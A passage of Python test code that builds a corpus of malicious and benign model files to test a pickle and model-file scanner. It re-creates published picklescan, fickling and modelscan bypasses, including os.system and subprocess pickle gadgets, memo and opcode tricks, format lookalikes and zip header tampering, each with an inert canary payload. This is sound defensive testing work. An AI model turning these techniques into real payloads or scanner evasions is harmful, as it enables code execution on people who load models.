"""A differential corpus for the model-file scanner: classic pickle payloads, the published
bypasses of picklescan, fickling and modelscan, and benign controls.

Every byte is built here, from hand-written opcodes, struct, zipfile, tarfile and the
standard compressors (the controls also use numpy, scikit-learn/joblib and onnx, all dev
dependencies). Nothing is downloaded, and no fixture of those projects is copied: each case
re-creates the technique an advisory, issue or fix describes, with a payload of our own.

Every malicious payload is harmless. Where it runs a command, the command is
`touch <canary>`; where it runs Python, the code is `open(<canary>, 'w').close()`; where
the gadget takes neither (a loader, a network constructor), its argument is inert, points
at the canary, or at loopback. A test that scans the corpus proves nothing ran by checking
that the canary never appears.

Not every gadget would run here: those of torch need torch, several advisories' methods are
called unbound with a dict as `self` (as their proof of concept does), and some names exist
only on other Python versions. The scanner judges them by the globals they import, which is
what those advisories reported. Side effects of merely importing a gadget's module when
loading (idlelib creates ~/.idlerc) are outside the payload's control.

`source` names what a case reproduces: a GHSA/CVE id, an issue or pull request, a commit.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import shlex
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

PS = "https://github.com/mmaitre314/picklescan"
FK = "https://github.com/trailofbits/fickling"
MS = "https://github.com/protectai/modelscan"
PS_ADV = f"{PS}/security/advisories"
FK_ADV = f"{FK}/security/advisories"
ISSUE15 = "Modelgate issue 15 (a route that got a pickle marked clean)"

# The tool names the oracle test uses; a control lists those known to flag it anyway.
TOOLS = ("picklescan", "modelscan", "fickling")


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    data: bytes
    malicious: bool
    source: str
    # Benign controls only: oracles known to flag this control although it is benign (their
    # false positives). Any other oracle flag on a control fails the test, so that a control
    # some tool calls malicious is looked at rather than silently trusted.
    oracle_false_positives: frozenset[str] = field(default_factory=frozenset)


# -- a small pickle assembler --------------------------------------------------------------
# Opcode bytes by name, from the pickle module's own constants.
PROTO = pickle.PROTO
FRAME = pickle.FRAME
STOP = pickle.STOP
MARK = pickle.MARK
POP = pickle.POP
POP_MARK = pickle.POP_MARK
DUP = pickle.DUP
NONE = pickle.NONE
NEWTRUE = pickle.NEWTRUE
TUPLE = pickle.TUPLE
TUPLE1 = pickle.TUPLE1
TUPLE2 = pickle.TUPLE2
TUPLE3 = pickle.TUPLE3
EMPTY_TUPLE = pickle.EMPTY_TUPLE
EMPTY_LIST = pickle.EMPTY_LIST
EMPTY_DICT = pickle.EMPTY_DICT
APPENDS = pickle.APPENDS
SETITEMS = pickle.SETITEMS
DICT = pickle.DICT
LIST = pickle.LIST
REDUCE = pickle.REDUCE
BUILD = pickle.BUILD
STACK_GLOBAL = pickle.STACK_GLOBAL
MEMOIZE = pickle.MEMOIZE
OBJ = pickle.OBJ
BINPERSID = pickle.BINPERSID


def sbu(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    raw = text.encode()
    assert len(raw) < 256
    return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw


def unicode0(text: str) -> bytes:
    """UNICODE (protocol 0): raw-unicode-escape up to a newline, escaped as pickle does."""
    text = text.replace("\\", "\\u005c").replace("\n", "\\u000a")
    return pickle.UNICODE + text.encode("raw-unicode-escape") + b"\n"


def string0(text: str) -> bytes:
    """STRING (protocol 0): a quoted Python 2 str literal."""
    return pickle.STRING + repr(text).encode() + b"\n"


def put(n: int) -> bytes:
    return pickle.PUT + b"%d\n" % n


def get(n: int) -> bytes:
    return pickle.GET + b"%d\n" % n


def binput(n: int) -> bytes:
    return pickle.BINPUT + bytes([n])


def binget(n: int) -> bytes:
    return pickle.BINGET + bytes([n])


def glob(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0..3): module and name on two lines."""
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def sglob(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+) from two short strings."""
    return sbu(module) + sbu(name) + STACK_GLOBAL


def proto(n: int) -> bytes:
    return PROTO + bytes([n]) if n >= 2 else b""


def enc(value: object, protocol: int = 4) -> bytes:
    """Plain data as opcodes of `protocol`: None, bool, int, str, bytes, list, tuple, dict."""
    if value is None:
        return NONE
    if value is True or value is False:
        if protocol >= 2:
            return pickle.NEWTRUE if value else pickle.NEWFALSE
        return b"I01\n" if value else b"I00\n"
    if isinstance(value, int):
        if protocol >= 1 and -(2**31) <= value < 2**31:
            return pickle.BININT + struct.pack("<i", value)
        return pickle.INT + b"%d\n" % value
    if isinstance(value, str):
        if protocol >= 4 and len(value.encode()) < 256:
            return sbu(value)
        if protocol >= 1:
            raw = value.encode()
            return pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw
        return unicode0(value)
    if isinstance(value, bytes):
        if protocol >= 3:
            return pickle.BINBYTES + struct.pack("<I", len(value)) + value
        # Python 2 str: read back as str under the default ASCII encoding, bytes otherwise.
        return pickle.BINSTRING + struct.pack("<I", len(value)) + value
    if isinstance(value, tuple):
        return MARK + b"".join(enc(v, protocol) for v in value) + TUPLE
    if isinstance(value, list):
        items = b"".join(enc(v, protocol) for v in value)
        if protocol >= 1:
            return EMPTY_LIST + (MARK + items + APPENDS if value else b"")
        return MARK + items + LIST
    if isinstance(value, dict):
        items = b"".join(enc(k, protocol) + enc(v, protocol) for k, v in value.items())
        if protocol >= 1:
            return EMPTY_DICT + (MARK + items + SETITEMS if value else b"")
        return MARK + items + DICT
    raise TypeError(f"cannot encode {type(value).__name__}")


def callee(module: str, name: str, protocol: int = 4) -> bytes:
    return sglob(module, name) if protocol >= 4 else glob(module, name)


def call(module: str, name: str, *args: object, protocol: int = 4) -> bytes:
    """A complete pickle that calls module.name(*args) when loaded."""
    return proto(protocol) + callee(module, name, protocol) + enc(args, protocol) + REDUCE + STOP


class _Reduce:
    """Pickled by the real pickler as a call of `func(*args)`: dumping runs nothing."""

    def __init__(self, func, *args):
        self._func, self._args = func, args

    def __reduce__(self):
        return self._func, self._args


# -- containers ----------------------------------------------------------------------------


def zip_of(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = compression
            archive.writestr(info, data)
    return buffer.getvalue()


def tar_of(members: list[tuple[str, bytes]], fmt: int = tarfile.PAX_FORMAT) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=fmt) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_700_000_000
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _set_zip_flags(data: bytes, flag: int) -> bytes:
    """Set a general-purpose flag bit in every local and central header. PyTorch's zip
    reader ignores these bits; Python's zipfile refuses the member."""
    out = bytearray(data)
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(signature)
        while at >= 0:
            value = struct.unpack_from("<H", out, at + flag_at)[0] | flag
            struct.pack_into("<H", out, at + flag_at, value)
            at = out.find(signature, at + 4)
    return bytes(out)


# -- torch-style checkpoints, built without torch ------------------------------------------


def torch_zip(data_pkl: bytes, storages: dict[str, bytes], prefix: str = "archive") -> bytes:
    """The layout torch.save has written since 1.6: a zip holding data.pkl, the raw
    storages under data/, and version/byteorder records."""
    members = [(f"{prefix}/data.pkl", data_pkl), (f"{prefix}/byteorder", b"little")]
    members += [(f"{prefix}/data/{key}", raw) for key, raw in storages.items()]
    members += [(f"{prefix}/version", b"3\n"), (f"{prefix}/.data/serialization_id", b"0" * 40)]
    return zip_of(members)


def _tensor(key: str, numel: int, shape: tuple[int, ...]) -> bytes:
    """torch._utils._rebuild_tensor_v2(storage, 0, shape, stride, False, OrderedDict())
    with the storage as a persistent id, as torch.save (protocol 2) writes a float32 tensor."""
    stride, step = [], 1
    for size in reversed(shape):
        stride.insert(0, step)
        step *= size
    storage_id = (
        MARK
        + enc("storage", 2)
        + glob("torch", "FloatStorage")
        + enc(key, 2)
        + enc("cpu", 2)
        + enc(numel, 2)
        + TUPLE
        + BINPERSID
    )
    return (
        glob("torch._utils", "_rebuild_tensor_v2")
        + MARK
        + storage_id
        + enc(0, 2)
        + enc(shape, 2)
        + enc(tuple(stride), 2)
        + pickle.NEWFALSE
        + glob("collections", "OrderedDict")
        + EMPTY_TUPLE
        + REDUCE
        + TUPLE
        + REDUCE
    )


def torch_state_dict_pickle(tensors: dict[str, tuple[str, int, tuple[int, ...]]]) -> bytes:
    body = glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + MARK
    for name, (key, numel, shape) in tensors.items():
        body += enc(name, 2) + _tensor(key, numel, shape)
    return proto(2) + body + SETITEMS + STOP


def _pickle_loads_p0(inner: bytes) -> bytes:
    """_pickle.loads(inner) in protocol 0, which pickles bytes as _codecs.encode(str, 'latin1')."""
    as_bytes = glob("_codecs", "encode") + MARK + unicode0(inner.decode("latin-1"))
    as_bytes += unicode0("latin1") + TUPLE + REDUCE
    return glob("_pickle", "loads") + MARK + as_bytes + TUPLE + REDUCE + STOP


# -- payload builders ----------------------------------------------------------------------


class _Payloads:
    def __init__(self, canary: Path):
        self.canary = str(canary)
        self.sh = f"touch {shlex.quote(self.canary)}"
        self.py = f"open({self.canary!r}, 'w').close()"

    def system(self, protocol: int = 4, module: str = "os") -> bytes:
        return call(module, "system", self.sh, protocol=protocol)

    def eval_(self) -> bytes:
        return call("builtins", "eval", self.py)


def _classic(p: _Payloads) -> list[Case]:
    import os
    import subprocess

    cases = []
    for protocol in range(6):
        # The real pickler, as an attacker's __reduce__ would use it (os.system is posix.system).
        data = pickle.dumps(_Reduce(os.system, p.sh), protocol=protocol)
        cases.append(
            Case(
                f"classic_os_system_reduce_p{protocol}",
                f"model_p{protocol}.pkl",
                data,
                True,
                f"__reduce__ returning os.system, pickled with protocol {protocol} "
                "(https://docs.python.org/3/library/pickle.html#restricting-globals)",
            )
        )
    cases += [
        Case(
            "classic_os_system_stack_global_literal",
            "model.pkl",
            p.system(4, "os"),
            True,
            "STACK_GLOBAL os.system: the canonical protocol 4 payload",
        ),
        Case(
            "classic_posix_system_global",
            "model.pkl",
            p.system(0, "posix"),
            True,
            "GLOBAL posix.system (os.system's real home on Linux), protocol 0",
        ),
        Case(
            "classic_subprocess_popen",
            "model.pkl",
            pickle.dumps(_Reduce(subprocess.Popen, ["touch", p.canary]), protocol=4),
            True,
            "subprocess.Popen via __reduce__",
        ),
        Case(
            "classic_builtins_eval",
            "model.pkl",
            p.eval_(),
            True,
            "builtins.eval of a code string",
        ),
        Case(
            "classic_builtins_exec_p2",
            "model.pkl",
            call("__builtin__", "exec", p.py, protocol=2),
            True,
            "__builtin__.exec, protocol 2 (Python 2 name mapped to builtins on load)",
        ),
        Case(
            "classic_getattr_import_chain",
            "model.pkl",
            # getattr(__import__('os'), 'system')(cmd)
            glob("builtins", "getattr")
            + MARK
            + glob("builtins", "__import__")
            + MARK
            + string0("os")
            + TUPLE
            + REDUCE
            + string0("system")
            + TUPLE
            + REDUCE
            + MARK
            + string0(p.sh)
            + TUPLE
            + REDUCE
            + STOP,
            True,
            f"getattr(__import__('os'), 'system') chain; {FK_ADV}/GHSA-h4rm-mm56-xf63",
        ),
        Case(
            "classic_memoised_stack_global",
            "model.pkl",
            proto(4)
            + sbu("os")
            + MEMOIZE
            + sbu("system")
            + MEMOIZE
            + POP
            + POP
            + binget(0)
            + binget(1)
            + STACK_GLOBAL
            + sbu(p.sh)
            + TUPLE1
            + REDUCE
            + STOP,
            True,
            "STACK_GLOBAL whose operands come from the memo, not from adjacent strings",
        ),
        Case(
            "classic_inst_opcode",
            "model.pkl",
            MARK + string0(p.sh) + b"ios\nsystem\n" + STOP,
            True,
            f"INST opcode calling os.system; {PS}/pull/21",
        ),
        Case(
            "classic_obj_opcode",
            "model.pkl",
            proto(2) + MARK + glob("os", "system") + enc(p.sh, 2) + OBJ + STOP,
            True,
            f"OBJ opcode calling os.system; {FK}/pull/108",
        ),
        Case(
            "classic_nested_pickle_loads",
            "model.pkl",
            call("pickle", "loads", p.system(2), protocol=4),
            True,
            f"pickle.loads of an inner pickle held as bytes; {MS}/issues/267",
        ),
        Case(
            "classic_nested__pickle_loads_p0",
            "model.pkl",
            _pickle_loads_p0(p.system(2)),
            True,
            f"_pickle.loads (the C module) of an inner pickle; {PS}/issues/24, {MS}/pull/270",
        ),
        Case(
            "classic_stacked_second_pickle",
            "model.pkl",
            pickle.dumps(["a", "b", "c"], protocol=2) + p.system(2),
            True,
            "two pickles back to back, the second malicious (picklescan malicious6; "
            f"{PS}/blob/main/tests/init_data_files.py)",
        ),
    ]

    # joblib dump of a dict holding an array and a malicious object.
    import joblib
    import numpy as np

    buffer = io.BytesIO()
    joblib.dump({"weights": np.arange(4.0), "hook": _Reduce(os.system, p.sh)}, buffer)
    cases.append(
        Case(
            "classic_joblib_malicious_object",
            "model.joblib",
            buffer.getvalue(),
            True,
            "joblib.dump of an estimator-like dict holding a __reduce__ payload",
        )
    )
    buffer = io.BytesIO()
    joblib.dump({"weights": np.arange(4.0), "hook": _Reduce(os.system, p.sh)}, buffer, compress=3)
    cases.append(
        Case(
            "classic_joblib_zlib_malicious_object",
            "model.joblib",
            buffer.getvalue(),
            True,
            "joblib.dump(compress=3): the same payload inside joblib's zlib stream",
        )
    )

    buffer = io.BytesIO()
    np.save(buffer, np.array([_Reduce(os.system, p.sh)], dtype=object), allow_pickle=True)
    npy = buffer.getvalue()
    cases.append(
        Case(
            "classic_npy_object_dtype",
            "array.npy",
            npy,
            True,
            f"numpy .npy with object dtype (its data is a pickle); {PS}/commit/62e76cf",
        )
    )
    cases.append(
        Case(
            "classic_npz_object_member",
            "arrays.npz",
            zip_of([("a.npy", npy), ("b.npy", _npy_float())]),
            True,
            f"np.savez layout with an object-dtype member; modelscan skips .npz ({MS}"
            "/blob/main/modelscan/tools/picklescanner.py scan_numpy)",
        )
    )

    malicious_state = (
        proto(2)
        + sglob("collections", "OrderedDict")
        + EMPTY_TUPLE
        + REDUCE
        + MARK
        + sbu("hook")
        + callee("os", "system")
        + enc((p.sh,))
        + REDUCE
        + SETITEMS
        + STOP
    )
    cases.append(
        Case(
            "classic_torch_zip_malicious_data_pkl",
            "pytorch_model.bin",
            torch_zip(malicious_state, {}),
            True,
            "torch.save zip layout whose archive/data.pkl calls os.system",
        )
    )
    pickled = p.system(4)
    for suffix, wrap in (
        ("gz", lambda b: gzip.compress(b, mtime=0)),
        ("bz2", bz2.compress),
        ("xz", lzma.compress),
        ("lzma", lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE)),
        ("zlib", zlib.compress),
    ):
        cases.append(
            Case(
                f"classic_{suffix}_wrapped_pickle",
                f"model.pkl.{suffix}" if suffix != "zlib" else "model.z",
                wrap(pickled),
                True,
                f"a pickle inside a {suffix} stream (joblib reads all of these)",
            )
        )
    cases.append(
        Case(
            "classic_tar_member_pickle",
            "model.tar",
            tar_of([("model/config.json", b"{}"), ("model/model.pkl", pickled)]),
            True,
            "a tar archive holding a malicious pickle member",
        )
    )
    cases.append(
        Case(
            "classic_tar_gz_member_pickle",
            "model.tar.gz",
            gzip.compress(tar_of([("model.pkl", pickled)]), mtime=0),
            True,
            "a gzip-compressed tar holding a malicious pickle member",
        )
    )
    cases.append(
        Case(
            "classic_nested_zip",
            "bundle.zip",
            zip_of([("inner.zip", zip_of([("data.pkl", pickled)]))]),
            True,
            f"a zip inside a zip; modelscan reports 'does not support nested zip files' ({MS}"
            "/blob/main/modelscan/modelscan.py)",
        )
    )
    cases.append(
        Case(
            "classic_zip_in_tar",
            "bundle.tar",
            tar_of([("checkpoint.pt", torch_zip(malicious_state, {}))]),
            True,
            "a torch zip checkpoint inside a tar archive",
        )
    )
    return cases


def _issue15(p: _Payloads) -> list[Case]:
    pickled = p.system(4)
    # Bytes 8..9 read `{"`, as in a safetensors header: a string that is then POPped.
    lookalike = proto(4) + pickle.BINUNICODE + struct.pack("<I", 4) + b'x{"x' + POP
    assert lookalike[8:10] == b'{"', lookalike
    lookalike += sglob("os", "system") + sbu(p.sh) + TUPLE1 + REDUCE + STOP
    # 'G' is BINFLOAT: "GUF" and five more bytes are its argument, then POP drops it.
    gguf = b"GGUF\x00\x00\x00\x00\x00" + POP + p.system(2)[2:]
    return [
        Case(
            "issue15_safetensors_lookalike_pkl",
            "model.pkl",
            lookalike,
            True,
            f'{ISSUE15}: a .pkl whose bytes 8-9 are {{" is taken for safetensors and never read',
        ),
        Case(
            "issue15_gguf_prefix_pkl",
            "model.pkl",
            gguf,
            True,
            f"{ISSUE15}: a .pkl starting with GGUF (BINFLOAT 'G' eats 'GUF...') is never read",
        ),
        Case(
            "issue15_protocol1_bin",
            "pytorch_model.bin",
            PROTO + b"\x01" + p.system(1),
            True,
            f"{ISSUE15}: a .bin starting with \\x80\\x01 is never tried as a pickle",
        ),
        Case(
            "issue15_newtrue_first_pt",
            "model.pt",
            NEWTRUE + POP + pickled[2:],
            True,
            f"{ISSUE15}: a .pt whose first opcode is NEWTRUE \\x88 is never tried",
        ),
        Case(
            "issue15_zip_member_bin",
            "model.zip",
            zip_of([("archive/model.bin", pickled)]),
            True,
            f"{ISSUE15}: a zip member named model.bin holding a pickle is never read",
        ),
        Case(
            "issue15_legacy_tar_torch",
            "model.pt",
            tar_of(
                [
                    ("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)),
                    ("pickle", pickled),
                    ("storages", pickle.dumps(0, protocol=2)),
                    ("tensors", pickle.dumps(0, protocol=2)),
                ],
                fmt=tarfile.GNU_FORMAT,
            ),
            True,
            f"{ISSUE15}: the legacy tar torch.save layout (members sys_info, pickle, "
            "storages, tensors) is not recognised",
        ),
        Case(
            "issue15_pydoc_pipepager",
            "model.pkl",
            call("pydoc", "pipepager", "", p.sh),
            True,
            f"{ISSUE15}: pydoc.pipepager runs a command; {PS}/commit/93764d6",
        ),
        Case(
            "issue15_imaplib_imap4_stream",
            "model.pkl",
            call("imaplib", "IMAP4_stream", p.sh),
            True,
            f"{ISSUE15}: imaplib.IMAP4_stream runs a command; {PS_ADV}/GHSA-g38g-8gr9-h9xp",
        ),
        Case(
            "issue15_pydoc_locate_then_call",
            "model.pkl",
            proto(4)
            + sglob("pydoc", "locate")
            + sbu("os.system")
            + TUPLE1
            + REDUCE
            + sbu(p.sh)
            + TUPLE1
            + REDUCE
            + STOP,
            True,
            f"{ISSUE15}: pydoc.locate('os.system') then called; {FK_ADV}/GHSA-5hvc-6wx8-mvv4",
        ),
    ]


# Single-call gadgets from picklescan's advisories: (case name, module, name, args, source).
# The module/name pairs are those each advisory reports; the arguments are ours.
def _picklescan_gadgets(p: _Payloads) -> list[tuple[str, str, str, tuple, str]]:
    py, sh = p.py, p.sh
    return [
        ("pip_main", "pip", "main", (["--log", p.canary, "help"],),
         "CVE-2025-1716 (pip.main not an unsafe global), fixed in "
         f"{PS}/commit/78ce704"),
        ("torch_inductor_compile_file", "torch._inductor.codecache", "compile_file",
         ("", "", ["sh", "-c", sh]), f"{PS_ADV}/GHSA-655q-fx9r-782v ({PS}/commit/93764d6)"),
        ("venv_create", "venv", "create", (p.canary, False, False, True, False, sh),
         f"{PS_ADV}/GHSA-655q-fx9r-782v ({PS}/commit/93764d6)"),
        ("bdb_run", "bdb", "Bdb.run", ({}, py), f"{PS}/commit/15c0dbd (debugger modules)"),
        ("runpy_run_code", "runpy", "_run_code", (py, {}), f"{PS}/commit/ee38e74"),
        ("timeit_timeit", "timeit", "timeit", ("", py), f"{PS}/commit/62e76cf"),
        ("numpy_testing_runstring", "numpy.testing._private.utils", "runstring", (py, {}),
         f"{PS}/commit/62e76cf"),
        ("ssl_get_server_certificate", "ssl", "get_server_certificate", (("127.0.0.1", 9),),
         f"{PS}/commit/62e76cf (dns_exfiltration.npy); the address here is loopback"),
        ("torch_bottleneck_run_cprofile", "torch.utils.bottleneck.__main__", "run_cprofile",
         (py, {}), f"{PS_ADV}/GHSA-4r9r-ch6f-vxmx"),
        ("torch_dynamo_guardbuilder_get", "torch._dynamo.guards", "GuardBuilder.get", ({}, py),
         f"{PS_ADV}/GHSA-86cj-95qr-2p4f"),
        ("torch_shapeenv_guards", "torch.fx.experimental.symbolic_shapes",
         "ShapeEnv.evaluate_guards_expression", ({}, py, []), f"{PS_ADV}/GHSA-f4x7-rfwp-v3xw"),
        ("torch_collect_env_run", "torch.utils.collect_env", "run", (sh,),
         f"{PS_ADV}/GHSA-f745-w6jp-hpxx"),
        ("torch_collect_env_run_and_read_all", "torch.utils.collect_env", "run_and_read_all",
         (None, sh), f"{PS_ADV}/GHSA-jhph-76pp-mggw"),
        ("torch_datapipes_basichandlers", "torch.utils.data.datapipes.utils.decoder",
         "basichandlers", ("pickle", p.system(2)), f"{PS_ADV}/GHSA-h3qp-7fh3-f8h4"),
        ("torch_jit_execwrapper", "torch.jit.unsupported_tensor_ops", "execWrapper",
         (py, {}, {}), f"{PS_ADV}/GHSA-vr7h-p6mm-wpmh"),
        ("torch_configmodule_load_config", "torch.utils._config_module",
         "ConfigModule.load_config", ({}, p.system(2)), f"{PS_ADV}/GHSA-vv6j-3g6g-2pvj"),
        ("trace_run", "trace", "Trace.run", ({}, py), f"{PS_ADV}/GHSA-5qwp-399c-mjwf"),
        ("trace_runctx", "trace", "Trace.runctx", ({}, py, {}, {}),
         f"{PS_ADV}/GHSA-g344-hcph-8vgg"),
        ("profile_profile_run", "profile", "Profile.run", ({}, py),
         f"{PS_ADV}/GHSA-x696-vm39-cp64"),
        ("profile_profile_runctx", "profile", "Profile.runctx", ({}, py, {}, {}),
         f"{PS_ADV}/GHSA-6vqj-c2q5-j97w"),
        ("lib2to3_grammar_loads", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, p.system(2)),
         f"{PS_ADV}/GHSA-f54q-57x4-jg88"),
        ("idlelib_objecttreeitem_settext", "idlelib.debugobj", "ObjectTreeItem.SetText",
         ({}, py), f"{PS_ADV}/GHSA-3vg9-h568-4w9m"),
        ("idlelib_autocomplete_get_entity", "idlelib.autocomplete", "AutoComplete.get_entity",
         ({}, py), f"{PS_ADV}/GHSA-6w4w-5w54-rjvr"),
        ("idlelib_autocomplete_fetch_completions", "idlelib.autocomplete",
         "AutoComplete.fetch_completions", ({}, py, 1), f"{PS_ADV}/GHSA-7cq8-mj8x-j263"),
        ("code_interactiveinterpreter_runcode", "code", "InteractiveInterpreter.runcode",
         ({}, py), f"{PS_ADV}/GHSA-cj3c-v495-4xqh"),
        ("idlelib_calltip_fetch_tip", "idlelib.calltip", "Calltip.fetch_tip", ({}, py),
         f"{PS_ADV}/GHSA-8r4j-24qv-fmq9"),
        ("idlelib_calltip_get_entity", "idlelib.calltip", "get_entity", (py,),
         f"{PS_ADV}/GHSA-9xph-j2h6-g47v"),
        ("torch_bottleneck_run_autograd_prof", "torch.utils.bottleneck.__main__",
         "run_autograd_prof", (py, {}), f"{PS_ADV}/GHSA-4whj-rm5r-c2v8"),
        ("ensurepip_run_pip", "ensurepip", "_run_pip", (["--log", p.canary, "help"],),
         f"{PS_ADV}/GHSA-xp4f-hrf8-rxw7"),
        ("lib2to3_parsergenerator_make_label", "lib2to3.pgen2.pgen",
         "ParserGenerator.make_label", (None, {}, '""+' + py), f"{PS_ADV}/GHSA-p9w7-82w4-7q8m"),
        ("idlelib_executive_runcode", "idlelib.run", "Executive.runcode", ({}, py),
         f"{PS_ADV}/GHSA-m869-42cg-3xwr"),
        ("idlelib_modifiedinterpreter_runcommand", "idlelib.pyshell",
         "ModifiedInterpreter.runcommand", ({}, py), f"{PS_ADV}/GHSA-j343-8v2j-ff7w"),
        ("idlelib_modifiedinterpreter_runcode", "idlelib.pyshell",
         "ModifiedInterpreter.runcode", ({}, py), f"{PS_ADV}/GHSA-3gf5-cxq9-w223"),
        ("doctest_debug_script", "doctest", "debug_script", (py, True),
         f"{PS_ADV}/GHSA-fqq6-7vqf-w3fg"),
        ("cprofile_runctx", "cProfile", "runctx", (py, None, None),
         f"{PS_ADV}/GHSA-9w88-8rmg-7g2p"),
        ("cprofile_run", "cProfile", "run", (py,), f"{PS_ADV}/GHSA-49gj-c84q-6qm9"),
        ("asyncio_unix_subprocess_start", "asyncio.unix_events",
         "_UnixSubprocessTransport._start", ({}, sh, True, None, None, None, 0),
         f"{PS_ADV}/GHSA-q77w-mwjj-7mqx, {PS_ADV}/GHSA-f7qq-56ww-84cr (CVE-2025-10157, "
         "a submodule of the blocked asyncio)"),
        ("distutils_write_file", "distutils.file_util", "write_file", (p.canary, ["x"]),
         f"{PS_ADV}/GHSA-m273-6v24-x4m4"),
        ("ctypes_cdll", "ctypes", "CDLL", (None,), f"{PS_ADV}/GHSA-4675-36f9-wf6r"),
        ("pty_spawn", "pty", "spawn", (["/bin/sh", "-c", sh],), f"{PS_ADV}/GHSA-vqmv-47xg-9wpr"),
        ("numpy_f2py_getlincoef", "numpy.f2py.crackfortran", "getlincoef", (py, []),
         f"{PS_ADV}/GHSA-r8g5-cgf2-4m4m"),
        ("io_fileio", "_io", "FileIO", (p.canary, "w"), f"{PS_ADV}/GHSA-9726-w42j-3qjr"),
        ("urllib_request_urlopen", "urllib.request", "urlopen", ("file://" + p.canary,),
         f"{PS_ADV}/GHSA-9726-w42j-3qjr"),
        ("logging_filehandler", "logging", "FileHandler", (p.canary,),
         f"{PS_ADV}/GHSA-m7j5-r2p5-c39r"),
        ("profile_run", "profile", "run", (py,), f"{PS_ADV}/GHSA-7wx9-6375-f5wh"),
        ("uuid_get_command_stdout", "uuid", "_get_command_stdout", ("touch", p.canary),
         f"{PS_ADV}/GHSA-g38g-8gr9-h9xp, {FK_ADV}/GHSA-5hwf-rc88-82xm"),
        ("osx_support_read_output", "_osx_support", "_read_output", (sh,),
         f"{PS_ADV}/GHSA-g38g-8gr9-h9xp"),
        ("aix_support_read_cmd_output", "_aix_support", "_read_cmd_output", (sh,),
         f"{PS_ADV}/GHSA-g38g-8gr9-h9xp, {FK_ADV}/GHSA-5hwf-rc88-82xm"),
        ("pyrepl_pipe_pager", "_pyrepl.pager", "pipe_pager", ("text", sh),
         f"{PS_ADV}/GHSA-g38g-8gr9-h9xp"),
        ("test_support_assert_python_ok", "test.support.script_helper", "assert_python_ok",
         ("-c", py), f"{PS_ADV}/GHSA-g38g-8gr9-h9xp, {FK_ADV}/GHSA-pc6j-px3p-rrj4"),
    ]  # fmt: skip


def _picklescan(p: _Payloads) -> list[Case]:
    cases = [
        Case(f"picklescan_{name}", "model.pkl", call(module, attr, *args), True, source)
        for name, module, attr, args, source in _picklescan_gadgets(p)
    ]
    pickled = p.system(4)
    eval_pickle = p.eval_()

    # Containers: each advisory is a way to hide a member from picklescan's zip reader.
    plain = zip_of([("model/data.pkl", eval_pickle)])
    renamed_local = plain.replace(b"model/data.pkl", b"model/datap.kl", 1)
    assert renamed_local.count(b"model/data.pkl") == 1
    crc_broken = zip_of([("archive/data.pkl", eval_pickle)])
    at = crc_broken.index(p.canary.encode())
    crc_broken = crc_broken[:at] + bytes([crc_broken[at] ^ 0x01]) + crc_broken[at + 1 :]
    cases += [
        Case(
            "picklescan_zip_nonstandard_member_extension",
            "model.pt",
            zip_of([("archive/data.txt", eval_pickle)]),
            True,
            f"{PS_ADV}/GHSA-769v-p64c-89pr (pickle member with a non-standard extension; "
            f"{PS}/commit/baf03fa)",
        ),
        Case(
            "picklescan_zip_local_central_name_mismatch",
            "model.pt",
            renamed_local,
            True,
            f"{PS_ADV}/GHSA-7q5r-7gvp-wc82 (local header names datap.kl, central directory "
            f"data.pkl; {PS}/commit/e58e45e)",
        ),
        Case(
            "picklescan_zip_crc_error",
            "model.pt",
            crc_broken,
            True,
            f"{PS_ADV}/GHSA-mjqp-26hc-grxg (a member whose CRC does not match: Python's "
            f"zipfile raises, PyTorch does not check; {PS}/pull/50)",
        ),
        Case(
            "picklescan_raw_pickle_bin_extension",
            "pytorch_model.bin",
            call(
                "asyncio.unix_events",
                "_UnixSubprocessTransport._start",
                {},
                p.sh,
                True,
                None,
                None,
                None,
                0,
            ),
            True,
            f"{PS_ADV}/GHSA-jgw4-cr84-mqxg (a raw pickle under a PyTorch extension; {PS}/pull/50)",
        ),
        Case(
            "picklescan_string_opcode_stack_global",
            "model.pkl",
            string0("os")
            + string0("system")
            + STACK_GLOBAL
            + string0(p.sh)
            + TUPLE1
            + REDUCE
            + STOP,
            True,
            f"{PS_ADV}/GHSA-9gvj-pp9x-gcfr (STACK_GLOBAL operands pushed by STRING; {PS}/pull/46)",
        ),
        Case(
            "picklescan_memo_ctf_decoy_strings",
            "model.pkl",
            unicode0("os")
            + put(2)
            + POP
            + unicode0("system")
            + put(3)
            + POP
            + unicode0("torch")
            + put(0)
            + POP
            + unicode0("LongStorage")
            + put(1)
            + POP
            + get(2)
            + get(3)
            + STACK_GLOBAL
            + MARK
            + unicode0(p.sh)
            + TUPLE
            + REDUCE
            + STOP,
            True,
            f"memo-held STACK_GLOBAL operands behind decoy strings ({PS}/issues/22, "
            f"{PS}/commit/ad6efbf)",
        ),
        Case(
            "picklescan_memo_keyerror",
            "model.pkl",
            proto(4)
            + glob("os", "system")
            + unicode0(p.sh)
            + TUPLE1
            + REDUCE
            + POP
            + sbu("os")
            + MEMOIZE
            + binget(3)
            + binget(0)
            + STACK_GLOBAL
            + STOP,
            True,
            f"a STACK_GLOBAL reading an undefined memo key after the payload ran, crashing "
            f"the scanner's memo ({PS}/pull/52)",
        ),
        Case(
            "picklescan_memo_type_confusion",
            "model.pkl",
            proto(4)
            + glob("os", "system")
            + unicode0(p.sh)
            + TUPLE1
            + REDUCE
            + POP
            + enc(42)
